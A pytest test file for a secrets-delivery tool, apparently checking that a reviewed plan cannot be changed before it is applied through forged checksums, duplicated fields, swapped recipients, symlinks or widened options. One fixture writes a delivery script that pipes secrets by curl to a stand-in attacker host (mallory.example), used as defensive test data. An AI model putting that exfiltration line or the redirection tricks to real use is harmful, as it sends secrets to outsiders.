"""Goal: have something else applied than what was reviewed, under the digest of the review."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from reconciler.planning.planfile import with_checksum

if TYPE_CHECKING:
    from collections.abc import Callable

    from support.command import Ended, Front

PROTECTED = """\
version: 1
environments: {production: {protected: true, keys: {}}}
"""
DELIVERED = """\
version: 1
destinations:
  local: {type: dotenv, path: secrets/ci.env}
  files: {type: age, path: "files/{name}.age", recipients_file: recipients.txt}
  script: {type: exec, command: [./deliver.sh]}
environments:
  ci:
    deliver: [{to: local, as: A}, {to: files, as: A}, {to: script, as: A}]
    keys: {a: {credit_limit: 1}}
"""
Document = dict[str, Any]


def saved() -> Document:
    document: Document = json.loads(Path("plan.json").read_text())
    return document


def applied(front: Front, document: Document, *words: str) -> Ended:
    Path("plan.json").write_text(json.dumps(document))
    return front("apply", "plan.json", "--auto-approve", "--allow-exec", *words)


@pytest.mark.parametrize("careful", [False, True], ids=["by hand", "with a new checksum"])
def test_a_refused_plan_is_not_made_a_good_one_by_typing_into_it(front: Front, *, careful: bool) -> None:
    front.state.create_key("production/api")
    assert front.write(PROTECTED)("plan", "--out", "plan.json").code == 3
    document = saved()
    reviewed = str(document["digest"])
    document["options"]["allow"] = ["*"]
    document["findings"] = []
    forged = with_checksum(document) if careful else document
    for words in ((), ("--expect-digest", reviewed)):
        assert applied(front, forged, *words).code == 4
    assert front.names() == ["production/api"]


def test_a_field_that_stands_twice_is_not_read_one_way_here_and_another_there(front: Front) -> None:
    front.state.create_key("production/api")
    front.write(PROTECTED)("plan", "--out", "plan.json", "--allow", "production/api")
    text = Path("plan.json").read_text()
    Path("plan.json").write_text(text.replace('"digest"', '"options": {}, "digest"', 1))
    assert front("apply", "plan.json", "--auto-approve").code == 4
    assert front.names() == ["production/api"]


def swap_recipients() -> None:
    Path("recipients.txt").write_text("age1mallory\n")


def swap_script() -> None:
    Path("deliver.sh").write_text("#!/bin/sh\ncurl -d @- https://mallory.example\n")


def link_the_file() -> None:
    Path("elsewhere.env").write_text("")
    Path("secrets/ci.env").symlink_to("../elsewhere.env")


def link_the_folder() -> None:
    Path("secrets").rmdir()
    Path("elsewhere").mkdir()
    Path("secrets").symlink_to("elsewhere")


@pytest.mark.parametrize("how", ["a saved plan", "a digest"])
@pytest.mark.parametrize("swap", [swap_recipients, swap_script, link_the_file, link_the_folder])
def test_where_a_secret_goes_in_truth_is_what_was_reviewed(front: Front, swap: Callable[[], None], how: str) -> None:
    Path("recipients.txt").write_text("age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n")
    Path("deliver.sh").write_text("#!/bin/sh\ncat > /dev/null\n")
    Path("secrets").mkdir()
    assert front.write(DELIVERED)("plan", "--out", "plan.json").code == 0
    reviewed = str(saved()["digest"])
    words = ("plan.json",) if how == "a saved plan" else ("--expect-digest", reviewed)
    swap()
    assert front("apply", *words, "--auto-approve", "--allow-exec").code == 4
    assert front.names() == []


@pytest.mark.parametrize("words", [("--allow", "*"), ("--only", "production/*"), ("-e", "production")])
def test_a_digest_is_not_applied_under_other_options(front: Front, words: tuple[str, ...]) -> None:
    front.state.create_key("production/api")
    front.write(PROTECTED.replace("protected: true, ", ""))
    reviewed = front("plan", "--format", "json").document["digest"]
    assert front("apply", "--auto-approve", "--expect-digest", reviewed, *words).code == 4
    assert front.names() == ["production/api"]
